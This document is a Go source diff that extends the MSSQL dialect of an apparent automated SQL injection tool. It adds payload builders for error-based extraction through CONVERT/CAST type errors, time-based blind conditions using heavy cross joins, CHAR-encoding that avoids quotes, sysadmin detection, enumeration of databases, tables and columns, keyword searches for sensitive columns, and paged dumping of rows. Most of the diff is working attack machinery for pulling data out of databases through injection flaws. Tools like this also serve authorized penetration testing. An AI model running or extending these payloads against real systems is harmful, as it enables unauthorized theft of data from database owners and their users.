@@ -39,6 +39,19 @@ func (m *MSSQL) Char(code int) string {
 	return fmt.Sprintf("CHAR(%d)", code)
 }
 
+// WrapWithMarkers returns CHAR(126)+CAST((query) AS NVARCHAR(MAX))+CHAR(126);
+// the CAST keeps + from adding a numeric query's value.
+func (m *MSSQL) WrapWithMarkers(query string) string {
+	return m.Concatenate(m.Char(126), "CAST(("+query+") AS NVARCHAR(MAX))", m.Char(126))
+}
+
+// WrapRowsWithMarkers aggregates the rows, cast to NVARCHAR(MAX), with
+// STRING_AGG (SQL Server 2017 and later), which skips NULLs.
+func (m *MSSQL) WrapRowsWithMarkers(column, from string) string {
+	return fmt.Sprintf("CHAR(126)+CAST((SELECT COUNT(%s) FROM %s) AS NVARCHAR(MAX))+CHAR(126)+(SELECT COALESCE(STRING_AGG(CAST((%s) AS NVARCHAR(MAX))+CHAR(126),''),'') FROM %s)",
+		column, from, column, from)
+}
+
 // --- Version and identity ---
 
 // VersionQuery returns the MSSQL expression to retrieve the server version.
@@ -53,32 +66,52 @@ func (m *MSSQL) CurrentDBQuery() string { return "DB_NAME()" }
 // HostnameQuery returns the MSSQL expression to retrieve the server name.
 func (m *MSSQL) HostnameQuery() string { return "@@SERVERNAME" }
 
+// IsDBAQuery returns the MSSQL expression that is 1 for a sysadmin.
+func (m *MSSQL) IsDBAQuery() string { return "IS_SRVROLEMEMBER('sysadmin')" }
+
 // --- Enumeration queries ---
 
 // ListDatabasesQuery returns a SQL query to list all databases.
 func (m *MSSQL) ListDatabasesQuery() string {
-	return "SELECT name FROM master..sysdatabases"
+	return "SELECT name FROM sys.databases"
 }
 
 // ListTablesQuery returns a SQL query to list all user tables in the given database.
 func (m *MSSQL) ListTablesQuery(database string) string {
-	return fmt.Sprintf(
-		"SELECT table_name FROM %s.information_schema.tables WHERE table_type='BASE TABLE'",
-		database,
-	)
+	return fmt.Sprintf("SELECT name FROM %s..sysobjects WHERE xtype='U'", m.QuoteIdentifier(database))
 }
 
 // ListColumnsQuery returns a SQL query to list all columns in the given table.
 func (m *MSSQL) ListColumnsQuery(database, table string) string {
+	db := m.QuoteIdentifier(database)
 	return fmt.Sprintf(
-		"SELECT column_name FROM %s.information_schema.columns WHERE table_name='%s'",
-		database, table,
+		"SELECT c.name FROM %s..syscolumns c JOIN %s..sysobjects o ON c.id=o.id WHERE o.xtype='U' AND o.name=%s",
+		db, db, m.QuoteString(table),
 	)
 }
 
+// SearchTablesQuery returns a SQL query to list the user tables of the
+// current database whose names contain keyword. Other databases' catalogs
+// can only be searched one by one.
+func (m *MSSQL) SearchTablesQuery(keyword string) string {
+	return "SELECT DB_NAME()+'.'+name FROM sysobjects WHERE xtype='U' AND LOWER(name) LIKE " + containsPattern(m, keyword)
+}
+
+// SearchColumnsQuery returns a SQL query to list the columns of the
+// current database's user tables whose names contain keyword.
+func (m *MSSQL) SearchColumnsQuery(keyword string) string {
+	return "SELECT DB_NAME()+'.'+o.name+'.'+c.name FROM syscolumns c JOIN sysobjects o ON c.id=o.id WHERE o.xtype='U' AND LOWER(c.name) LIKE " +
+		containsPattern(m, keyword)
+}
+
 // CountRowsQuery returns a SQL query to count rows in the given table.
 func (m *MSSQL) CountRowsQuery(database, table string) string {
-	return fmt.Sprintf("SELECT COUNT(*) FROM %s.dbo.%s", database, table)
+	return "SELECT COUNT(*) FROM " + m.QualifyTable(database, table)
+}
+
+// QualifyTable returns [database].dbo.[table].
+func (m *MSSQL) QualifyTable(database, table string) string {
+	return m.QuoteIdentifier(database) + ".dbo." + m.QuoteIdentifier(table)
 }
 
 // DumpQuery returns a SQL query to dump rows from the given table.
@@ -86,8 +119,38 @@ func (m *MSSQL) CountRowsQuery(database, table string) string {
 func (m *MSSQL) DumpQuery(database, table string, columns []string, offset, limit int) string {
 	cols := strings.Join(columns, ",")
 	return fmt.Sprintf(
-		"SELECT %s FROM (SELECT %s, ROW_NUMBER() OVER (ORDER BY (SELECT NULL)) AS rn FROM %s.dbo.%s) t WHERE rn>%d AND rn<=%d",
-		cols, cols, database, table, offset, offset+limit,
+		"SELECT %s FROM (SELECT %s, ROW_NUMBER() OVER (ORDER BY (SELECT NULL)) AS rn FROM %s) t WHERE rn>%d AND rn<=%d",
+		cols, cols, m.QualifyTable(database, table), offset, offset+limit,
+	)
+}
+
+// LimitOffset appends the OFFSET ... FETCH clause of SQL Server 2012 and
+// later. OFFSET needs an ORDER BY; a query without one gets ORDER BY
+// (SELECT NULL), which keeps the server's row order.
+func (m *MSSQL) LimitOffset(query string, offset, limit int) string {
+	if !strings.Contains(strings.ToUpper(query), "ORDER BY") {
+		query += " ORDER BY (SELECT NULL)"
+	}
+	return fmt.Sprintf("%s OFFSET %d ROWS FETCH NEXT %d ROWS ONLY", query, offset, limit)
+}
+
+// SelectRow pages with LimitOffset.
+func (m *MSSQL) SelectRow(column, from string, row int) string {
+	return m.LimitOffset(fmt.Sprintf("SELECT %s FROM %s", column, from), row, 1)
+}
+
+// DualTable returns "": SQL Server needs no FROM clause.
+func (m *MSSQL) DualTable() string { return "" }
+
+// LimitOffsetTop is LimitOffset for servers before SQL Server 2012, which
+// have neither OFFSET ... FETCH nor, before 2005, ROW_NUMBER(). It takes
+// the first limit values past the offset smallest with TOP and NOT IN, so
+// query must select a single column and no ORDER BY, and the rows come
+// back ordered by value with NULLs and repeats of skipped values left out.
+func (m *MSSQL) LimitOffsetTop(query string, offset, limit int) string {
+	return fmt.Sprintf(
+		"SELECT TOP %d v FROM (%s) t(v) WHERE v NOT IN (SELECT TOP %d v FROM (%s) s(v) WHERE v IS NOT NULL ORDER BY v) ORDER BY v",
+		limit, query, offset, query,
 	)
 }
 
@@ -96,22 +159,14 @@ func (m *MSSQL) DumpQuery(database, table string, columns []string, offset, limi
 // ErrorPayloads returns MSSQL-specific error-based injection payload templates.
 // MSSQL raises a type-conversion error that includes the value being converted.
 func (m *MSSQL) ErrorPayloads() []PayloadTemplate {
-	return []PayloadTemplate{
-		{
-			Name:     "convert",
-			Template: "CONVERT(INT,({{.Query}}))",
-			Columns:  1,
-			DBMS:     "MSSQL",
-		},
-		{
-			Name:     "cast",
-			Template: "CAST(({{.Query}}) AS INT)",
-			Columns:  1,
-			DBMS:     "MSSQL",
-		},
-	}
+	return errorPayloadsFor("MSSQL")
 }
 
+// ErrorChunkSize returns 1024. SQL Server cuts error message text at 2,047
+// characters, so a long value comes back cut short inside the conversion
+// error; 1024-character chunks fit with room to spare.
+func (m *MSSQL) ErrorChunkSize() int { return 1024 }
+
 // --- Time-based ---
 
 // SleepFunction returns a MSSQL WAITFOR DELAY expression.
@@ -128,6 +183,14 @@ func (m *MSSQL) HeavyQuery() string {
 	return "SELECT COUNT(*) FROM sysusers A, sysusers B, sysusers C"
 }
 
+// SleepIf delays with an expensive cross join of information_schema.columns:
+// WAITFOR DELAY is a statement, not an expression, so it cannot appear in
+// a WHERE clause. The delay depends on the server and the size of its
+// catalog, so it is less reliable than a stacked WAITFOR.
+func (m *MSSQL) SleepIf(condition string, _ int) string {
+	return fmt.Sprintf("1=(CASE WHEN (%s) THEN (SELECT COUNT(*) FROM information_schema.columns A, information_schema.columns B) ELSE 1 END)", condition)
+}
+
 // --- Boolean constructs ---
 
 // IfThenElse returns a MSSQL CASE WHEN ... THEN ... ELSE ... END expression.
@@ -143,6 +206,32 @@ func (m *MSSQL) QuoteString(s string) string {
 	return fmt.Sprintf("'%s'", escaped)
 }
 
+// QuoteIdentifier wraps the name in square brackets, doubling embedded
+// closing brackets.
+func (m *MSSQL) QuoteIdentifier(name string) string {
+	return "[" + strings.ReplaceAll(name, "]", "]]") + "]"
+}
+
+// HexString returns CharEncode(s): a 0x literal is VARBINARY, which +
+// would not concatenate as a string without a CAST.
+func (m *MSSQL) HexString(s string) string {
+	return m.CharEncode(s)
+}
+
+// CharEncode returns s as CHAR(c1)+CHAR(c2)+... of its characters, with
+// NCHAR for those past CHAR's single byte.
+func (m *MSSQL) CharEncode(s string) string {
+	if s == "" {
+		return m.QuoteString(s)
+	}
+	return charCodes(s, "+", func(r rune) string {
+		if r > 255 {
+			return fmt.Sprintf("NCHAR(%d)", r)
+		}
+		return m.Char(int(r))
+	})
+}
+
 // CommentSequence returns the MSSQL line comment sequence.
 func (m *MSSQL) CommentSequence() string { return "-- " }
 